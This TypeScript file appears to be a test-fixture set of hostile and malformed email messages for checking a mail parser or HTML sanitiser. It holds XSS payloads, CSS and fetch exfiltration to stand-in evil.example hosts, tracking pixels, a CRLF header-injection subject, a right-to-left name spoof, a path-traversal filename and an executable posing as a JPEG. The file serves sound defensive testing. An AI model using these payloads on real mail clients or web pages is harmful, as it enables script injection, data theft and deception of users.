/** Hostile and broken messages of our own making, for tests: what they try is in their names. Every other host in them ends in `.evil.example`. */
const html = (body: string): string =>
  ['From: Mallory <m@evil.example>', 'To: a@demarc.example', 'Subject: Look', 'Content-Type: text/html; charset=utf-8', '', body].join('\r\n');

const nested = (depth: number): string => {
  const heads = Array.from({ length: depth }, (_, level) => `Content-Type: multipart/mixed; boundary="b${level}"\r\n\r\n--b${level}\r\n`).join('');
  return `From: a@evil.example\r\nSubject: Nested\r\nMIME-Version: 1.0\r\n${heads}Content-Type: text/plain\r\n\r\ndeep`;
};

const withFile = (name: string, type: string, content: Uint8Array, more = ''): string =>
  [
    ...[
      'From: a@evil.example',
      'Subject: A file',
      'MIME-Version: 1.0',
      'Content-Type: multipart/mixed; boundary="x"',
      '',
      '--x',
      'Content-Type: text/plain',
    ],
    ...['', 'See the file.', '--x', `Content-Type: ${type}; name="${name}"`, `Content-Disposition: attachment; filename="${name}"`],
    ...['Content-Transfer-Encoding: base64', ...(more === '' ? [] : [more]), '', Buffer.from(content).toString('base64'), '--x--', ''],
  ].join('\r\n');

/** Pages that try to act, to ask another host, or to look out of their frame. */
export const hostileHtml: Readonly<Record<string, string>> = {
  script: html('<script>fetch("https://script.evil.example")</script><p>Hello</p>'),
  'script in capitals, unclosed': html('<SCRIPT SRC=https://src.evil.example/x.js><p>Hello</p>'),
  handlers: html(
    '<p onclick="alert(1)" onmouseover=alert(2)>Hello</p><img src=x onerror="fetch(\'https://onerror.evil.example\')"><body onload=alert(3)>',
  ),
  'javascript links': html(
    '<a href="javascript:alert(1)">one</a><a href="JaVa&#x09;script:alert(1)">two</a><a href="data:text/html,<script>alert(1)</script>">three</a>',
  ),
  svg: html(
    '<svg onload=alert(1)><script>alert(1)</script><image href="https://svg.evil.example/i.png"/><foreignObject><p>in</p></foreignObject></svg><p>Hello</p>',
  ),
  mathml: html('<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math><p>Hello</p>'),
  'css exfiltration': html(
    '<style>@import "https://import.evil.example/a.css"; input[value^="a"]{background:url(https://leak.evil.example/a)} @font-face{font-family:x;src:url(https://font.evil.example/x)}</style><p style="background-image:url(https://inline.evil.example/a);position:fixed;top:0">Hello</p>',
  ),
  'css escapes': html('<p style="background:\\75\\72\\6c(https://escape.evil.example/a)">Hello</p><p style="width:expression(alert(1))">x</p>'),
  forms: html(
    '<form action="https://form.evil.example"><input name="password" autofocus><button formaction="https://button.evil.example">Go</button></form><p>Hello</p>',
  ),
  'meta refresh': html('<meta http-equiv="refresh" content="0;url=https://meta.evil.example"><p>Hello</p>'),
  base: html('<base href="https://base.evil.example/" target="_top"><a href="/in">Hello</a>'),
  'tracking pixels': html(
    '<img src="https://pixel.evil.example/1.gif" width=1 height=1><img src="//relative.evil.example/1.gif"><img srcset="https://set.evil.example/1.gif 2x"><table background="https://table.evil.example/1.gif"><tr><td background="https://cell.evil.example/1.gif">Hello</td></tr></table><link rel="stylesheet" href="https://link.evil.example/a.css"><link rel="prefetch" href="https://prefetch.evil.example">',
  ),
  frames: html(
    '<iframe src="https://frame.evil.example"></iframe><iframe srcdoc="<script>alert(1)</script>"></iframe><object data="https://object.evil.example"></object><embed src="https://embed.evil.example"><p>Hello</p>',
  ),
  media: html(
    '<video src="https://video.evil.example/v" poster="https://poster.evil.example/p" autoplay></video><audio src="https://audio.evil.example/a"></audio><p>Hello</p>',
  ),
  'looks out of its frame': html(
    '<a href="https://top.evil.example" target="_top">Hello</a><p style="position:absolute;left:-9999px;z-index:9">x</p>',
  ),
  'broken tags': html('<<p>Hello<img """><script>alert(1)</script>"><![CDATA[<script>alert(1)</script>]]><!--><script>alert(1)</script>-->'),
};

/** Messages that are broken, too much, or not what they say; each can be read, or is said to be unreadable. */
export const broken: Readonly<Record<string, { readonly raw: string | Uint8Array; readonly readable: boolean }>> = {
  nothing: { raw: '', readable: true },
  'only zeros': { raw: new Uint8Array(2_000), readable: true },
  'nested parts, twenty deep': { raw: nested(20), readable: true },
  'nested parts, five thousand deep': { raw: nested(5_000), readable: false },
  'ten thousand recipients': {
    raw: `From: a@evil.example\r\nTo: ${Array.from({ length: 10_000 }, (_, index) => `p${index}@many.example`).join(',\r\n ')}\r\nSubject: All\r\n\r\nHi`,
    readable: true,
  },
  'two megabytes of headers': { raw: `From: a@evil.example\r\n${'X-Junk: '.padEnd(900, 'x').concat('\r\n').repeat(2_500)}\r\nHi`, readable: false },
  'a charset that is none': {
    raw: 'From: a@evil.example\r\nSubject: =?x-none?Q?abc?=\r\nContent-Type: text/plain; charset=x-none\r\n\r\n\xe9t\xe9',
    readable: true,
  },
  'latin text that says it is UTF-8': {
    raw: Buffer.from('From: a@evil.example\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n\xe9t\xe9', 'latin1'),
    readable: true,
  },
  'base64 that is none': {
    raw: 'From: a@evil.example\r\nContent-Type: text/plain\r\nContent-Transfer-Encoding: base64\r\n\r\n!!!not*base64',
    readable: true,
  },
  'a boundary that never ends': {
    raw: 'From: a@evil.example\r\nContent-Type: multipart/mixed; boundary="y"\r\n\r\n--y\r\nContent-Type: text/plain\r\n\r\nopen',
    readable: true,
  },
  'a name that turns': { raw: 'From: "\u202egro.knab\u202c <pay@bank.example>" <m@evil.example>\r\nSubject: a\u202eb\r\n\r\nHi', readable: true },
  'a header in a subject': { raw: 'From: a@evil.example\r\nSubject: =?utf-8?Q?a=0D=0ABcc:_x@evil.example?=\r\n\r\nHi', readable: true },
  'winmail.dat': { raw: withFile('winmail.dat', 'application/ms-tnef', Uint8Array.of(0x78, 0x9f, 0x3e, 0x22)), readable: true },
  'a zip bomb': { raw: withFile('bomb.zip', 'application/zip', Buffer.concat([Buffer.from('PK\x03\x04'), Buffer.alloc(100_000)])), readable: true },
  'a program that is called a picture': { raw: withFile('holiday.jpg', 'image/jpeg', Buffer.from('MZ\x90\x00')), readable: true },
  'a path for a name': { raw: withFile('../../etc/passwd', 'text/plain', Buffer.from('x')), readable: true },
};
